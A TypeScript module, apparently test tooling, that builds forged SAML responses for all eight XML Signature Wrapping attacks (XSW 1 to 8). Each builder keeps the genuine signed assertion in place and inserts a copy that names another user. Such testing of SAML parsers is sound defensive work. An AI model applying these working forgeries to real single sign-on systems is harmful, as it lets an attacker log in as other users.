// Builds signature wrapping attacks (XSW 1 to 8): the signed assertion stays in the document, and a
// forged one is put where a careless parser looks.

const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;

const part = (xml: string, pattern: RegExp): string => pattern.exec(xml)?.[0] ?? '';
const unsigned = (xml: string): string => xml.replace(SIGNATURE, '');
/** Returns a copy with another id and another user. */
const forged = (xml: string): string =>
  unsigned(xml)
    .replace('ID="_assertion"', 'ID="_evil"')
    .replace('ID="_response"', 'ID="_evil"')
    .replace('nina@acme.test', 'ana@acme.test');
/** Inserts XML before the end of an element. */
const into = (xml: string, element: string, more: string): string =>
  xml.replace(new RegExp(`</${element}>(?![\\s\\S]*</${element}>)`), () => `${more}</${element}>`);

/** Attacks on a response with a signature over the whole response. */
export const wrappedResponses: Readonly<Record<string, (signed: string) => string>> = {
  // A forged response, whose signature holds the true one.
  'XSW 1': (signed) =>
    forged(signed).replace(
      '</saml:Issuer>',
      () =>
        `</saml:Issuer>${into(part(signed, SIGNATURE), 'ds:Signature', `<ds:Object>${unsigned(signed)}</ds:Object>`)}`,
    ),
  // A forged response with the true one before its signature.
  'XSW 2': (signed) =>
    forged(signed).replace(
      '</saml:Issuer>',
      () => `</saml:Issuer>${unsigned(signed)}${part(signed, SIGNATURE)}`,
    ),
};

/** Attacks on a response with a signature over the assertion. */
export const wrappedAssertions: Readonly<Record<string, (signed: string) => string>> = {
  // The forged assertion before the true one.
  'XSW 3': (signed) => signed.replace(ASSERTION, (assertion) => `${forged(assertion)}${assertion}`),
  // The true one inside the forged one.
  'XSW 4': (signed) =>
    signed.replace(ASSERTION, (assertion) => into(forged(assertion), 'saml:Assertion', assertion)),
  // The forged one carries the signature, and the true one follows it.
  'XSW 5': (signed) =>
    signed.replace(
      ASSERTION,
      (assertion) =>
        `${forged(assertion).replace('</saml:Issuer>', () => `</saml:Issuer>${part(assertion, SIGNATURE)}`)}${unsigned(assertion)}`,
    ),
  // The forged one carries the signature, and the signature the true one.
  'XSW 6': (signed) =>
    signed.replace(ASSERTION, (assertion) =>
      forged(assertion).replace(
        '</saml:Issuer>',
        () =>
          `</saml:Issuer>${into(part(assertion, SIGNATURE), 'ds:Signature', `<ds:Object>${unsigned(assertion)}</ds:Object>`)}`,
      ),
    ),
  // The forged one in an extension, which may hold anything.
  'XSW 7': (signed) =>
    signed.replace(
      ASSERTION,
      (assertion) => `<samlp:Extensions>${forged(assertion)}</samlp:Extensions>${assertion}`,
    ),
  // The forged one carries the signature, in which an object holds the true one inside another
  // element.
  'XSW 8': (signed) =>
    signed.replace(ASSERTION, (assertion) =>
      forged(assertion).replace(
        '</saml:Issuer>',
        () =>
          `</saml:Issuer>${into(part(assertion, SIGNATURE), 'ds:Signature', `<ds:Object><wrap>${unsigned(assertion)}</wrap></ds:Object>`)}`,
      ),
    ),
};
